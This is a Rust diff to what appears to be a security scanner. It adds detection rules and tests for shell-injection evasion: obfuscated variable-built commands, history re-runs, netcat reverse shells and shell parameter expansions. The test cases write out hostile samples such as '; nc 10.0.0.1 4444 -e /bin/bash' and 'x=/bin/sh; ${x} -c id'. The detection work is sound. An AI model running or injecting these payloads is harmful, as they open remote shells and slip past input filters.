@@ -1581,6 +1581,11 @@ fn brace_command(lower: &str) -> Option<usize> {
         {
             return Some(open);
         }
+        // A builtin (not in the command table) spelled the same way with a
+        // path or option after it: `{,cd,/etc,}`.
+        if crafted && shaped_arg && matches!(base, "cd" | "eval" | "exec" | "source" | "export") {
+            return Some(open);
+        }
     }
     None
 }
@@ -1627,6 +1632,174 @@ fn shell_only_expansion(lower: &str) -> Option<usize> {
                     && w[2].is_ascii_alphanumeric()
             })
         {
+            return Some(p);
+        }
+    }
+    None
+}
+
+/// A variable assigned and then run as (part of) the next command's name:
+/// `g=cur[l];$g x`, `v='u';cu$v\\r\\l host`. The command is spelled
+/// nowhere, only put together by the shell.
+fn assigned_then_run(lower: &str) -> Option<usize> {
+    let s = lower.as_bytes();
+    if memchr::memchr(b'$', s).is_none() || memchr::memchr(b'=', s).is_none() {
+        return None;
+    }
+    let mut segments = lower.split([';', '\n']).scan(0, |at, seg| {
+        let start = *at;
+        *at += seg.len() + 1;
+        Some((start, seg))
+    });
+    let mut previous = segments.next()?;
+    for (start, seg) in segments.take(16) {
+        let assignment = previous.1.trim();
+        if let Some((name, value)) = assignment.split_once('=')
+            && !name.is_empty()
+            && name.len() <= 32
+            && name.as_bytes()[0].is_ascii_alphabetic()
+            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+            && !value.is_empty()
+            && !value.contains(' ')
+            && let Some(head) = seg.split_ascii_whitespace().next()
+        {
+            let used = crate::text::find_iter(head, "$").any(|(p, _)| {
+                let rest = head[p + 1..].trim_start_matches('{');
+                rest.strip_prefix(name).is_some_and(|after| {
+                    !after.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
+                })
+            });
+            if used {
+                return Some(previous.0);
+            }
+        }
+        previous = (start, seg);
+    }
+    None
+}
+
+/// A whole value made of history references by relative position:
+/// `!-1`, `!-1!-2` (bash re-runs the commands before the current one).
+fn history_events(lower: &str) -> bool {
+    let v = lower.trim();
+    v.starts_with("!-")
+        && v.split('!').skip(1).all(|event| {
+            event.trim_end().strip_prefix('-').is_some_and(|n| {
+                !n.is_empty() && n.len() <= 4 && n.bytes().all(|b| b.is_ascii_digit())
+            })
+        })
+}
+
+/// Netcat told to run a program on the connection: `nc 10.0.0.1 4444 -e
+/// sh`, `ncat -l 80 -c /bin/bash` (the options may follow host and port).
+fn netcat_exec(lower: &str) -> Option<usize> {
+    let s = lower.as_bytes();
+    let option = |p: usize| {
+        p > 0
+            && s[p - 1] == b' '
+            && matches!(s.get(p + 1), Some(b'e' | b'c'))
+            && s.get(p + 2) == Some(&b' ')
+    };
+    if !memchr::memchr_iter(b'-', s).any(option) {
+        return None;
+    }
+    for name in ["nc ", "ncat ", "netcat "] {
+        for (p, _) in crate::text::find_iter(lower, name) {
+            if p > 0 && (s[p - 1].is_ascii_alphanumeric() || matches!(s[p - 1], b'-' | b'_' | b'.'))
+            {
+                continue;
+            }
+            let args = &lower[p + name.len()..];
+            let args = &args[..args
+                .find([';', '|', '&', '\n'])
+                .unwrap_or(args.len())
+                .min(128)];
+            let mut words = args.split_ascii_whitespace();
+            while let Some(w) = words.next() {
+                if matches!(w, "-e" | "-c")
+                    && let Some(program) = words.next()
+                {
+                    // (An escaped line break written out, `sh\\n`, ends it.)
+                    let program = program.split("\\n").next().unwrap_or(program);
+                    let base = program.rsplit(['/', '\\']).next().unwrap_or(program);
+                    let base = base.strip_suffix(".exe").unwrap_or(base);
+                    if matches!(
+                        base,
+                        "sh" | "bash"
+                            | "dash"
+                            | "zsh"
+                            | "ksh"
+                            | "csh"
+                            | "tcsh"
+                            | "ash"
+                            | "cmd"
+                            | "powershell"
+                            | "pwsh"
+                            | "python"
+                            | "python3"
+                            | "perl"
+                    ) {
+                        return Some(p);
+                    }
+                }
+            }
+        }
+    }
+    None
+}
+
+/// A whole value that is a tilde expansion of the directory stack: `~+`
+/// (`$PWD`), `~-` (`$OLDPWD`), `~+2`, `~-1` (`dirs` entries). A bare `~N`
+/// is left alone: `~1` is also a semver range and "about one".
+fn directory_stack_tilde(lower: &str) -> bool {
+    let Some(rest) = lower.trim().strip_prefix('~') else {
+        return false;
+    };
+    rest.strip_prefix(['+', '-'])
+        .is_some_and(|n| n.bytes().all(|b| b.is_ascii_digit()))
+}
+
+/// Parameter expansions only a shell has: prefix removal on a variable
+/// (`${PATH#*:}`, `${x##{}}`, `${#name}` is a length) and a command
+/// substitution as the parameter (`${`id`}`, `${$(id)}`). A template
+/// placeholder (`${name}`, `${user.id}`, JavaScript's `${a % b}`) has
+/// neither.
+fn parameter_expansion(lower: &str) -> Option<usize> {
+    let s = lower.as_bytes();
+    for p in memchr::memchr_iter(b'$', s).filter(|p| s.get(p + 1) == Some(&b'{')) {
+        let inner = window(lower, p + 2);
+        let name = inner
+            .bytes()
+            .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
+            .count();
+        let after = &inner[name..];
+        let prefix_removal = name > 0
+            && inner.as_bytes()[0].is_ascii_alphabetic()
+            && after.starts_with('#')
+            && after.contains('}');
+        let length = name == 0
+            && after.starts_with('#')
+            && after[1..]
+                .bytes()
+                .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
+                .count()
+                > 0
+            && after[1..]
+                .trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_')
+                .starts_with('}');
+        let substituted = name == 0 && {
+            let code = after
+                .strip_prefix('`')
+                .or_else(|| after.strip_prefix("$("))
+                .unwrap_or("");
+            let word = code
+                .trim_start()
+                .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'))
+                .next()
+                .unwrap_or("");
+            command(word).is_some()
+        };
+        if prefix_removal || length || substituted {
             return Some(p);
         }
     }
@@ -1680,7 +1853,23 @@ pub(crate) fn inspect(lower: &str, scratch: &mut ShellScratch, sink: &mut Sink<'
     }
     reverse_shells(lower, sink);
     powershell(lower, sink);
-    if let Some(p) = shell_only_expansion(lower) {
+    if let Some(p) = assigned_then_run(lower) {
+        sink.report(&rules::RCE_EVASION, lower, p..(p + 32).min(lower.len()));
+    }
+    if let Some(p) = netcat_exec(lower) {
+        sink.report(
+            &rules::RCE_REVERSE_SHELL,
+            lower,
+            p..(p + 32).min(lower.len()),
+        );
+    }
+    if history_events(lower) {
+        sink.report(&rules::RCE_SUBSTITUTION, lower, 0..lower.len().min(24));
+    }
+    if directory_stack_tilde(lower) {
+        sink.report(&rules::RCE_SUBSTITUTION, lower, 0..lower.len().min(24));
+    }
+    if let Some(p) = shell_only_expansion(lower).or_else(|| parameter_expansion(lower)) {
         sink.report(
             &rules::RCE_SUBSTITUTION,
             lower,
@@ -2690,10 +2879,95 @@ mod expansion_tests {
 
     #[test]
     fn crafted_brace_expansion() {
-        for v in ["c{a,oun}t", "{id,}", "{,echo,#test}", "{,ls,-la,}"] {
+        for v in [
+            "c{a,oun}t",
+            "{id,}",
+            "{,echo,#test}",
+            "{,ls,-la,}",
+            "{,cd,/etc,}",
+        ] {
             assert_detects(v, "rce.evasion");
         }
-        for v in ["{fish,chips}", "{cat,dog}", "file{1,2}.txt", "{a,b,c}"] {
+        for v in [
+            "{fish,chips}",
+            "{cat,dog}",
+            "file{1,2}.txt",
+            "{a,b,c}",
+            "{cd,dvd,/vinyl}",
+            "{,cd,}",
+        ] {
+            assert_clean(v);
+        }
+    }
+
+    #[test]
+    fn tilde_history_and_parameter_expansions() {
+        for v in [
+            "~+",
+            "~-",
+            "~-1",
+            "~+5",
+            "!-1!-2",
+            "!-2",
+            "${x#{}}",
+            "${PATH#{}/}",
+            "${path##*/}",
+            "${#name}",
+            "${`id`}",
+            "${$(whoami)}",
+        ] {
+            assert_detects(v, "rce.substitution");
+        }
+        for v in [
+            "~1",
+            "~1.2.3",
+            "~ 5 minutes",
+            "about ~20",
+            "!important",
+            "Wow!-great",
+            "!-1 point",
+            "${name}",
+            "${user.id}",
+            "${a % b}",
+            "Hello ${first_name}!",
+            "${count}#",
+            "price: ${amount} #1",
+            "C# ${x}",
+        ] {
+            assert_clean(v);
+        }
+    }
+
+    #[test]
+    fn variables_assigned_then_run() {
+        for v in [
+            "garb=adduse[r];$garb pizza\n",
+            "v='u';cu$v\\\\r\\l google.com\n",
+            "x=/bin/sh; ${x} -c id",
+        ] {
+            assert_detects(v, "rce.evasion");
+        }
+        for v in [
+            "a=1; b=2; total $5",
+            "total=5;$5 off today",
+            "a=b;c=$d",
+            "name=Bob; hello $name",
+            "q=shoes;size=$10",
+        ] {
+            assert_clean(v);
+        }
+    }
+
+    #[test]
+    fn netcat_running_a_program() {
+        for v in [
+            "\";\\n. shell nc 10.10.10.1 6666 -e sh\\n",
+            "; nc 10.0.0.1 4444 -e /bin/bash",
+            "ncat -l 8080 -c cmd.exe",
+        ] {
+            assert_detects(v, "rce.reverse_shell");
+        }
+        for v in ["NC 27601 -e mail", "the nc tool has -e and -c options"] {
             assert_clean(v);
         }
     }
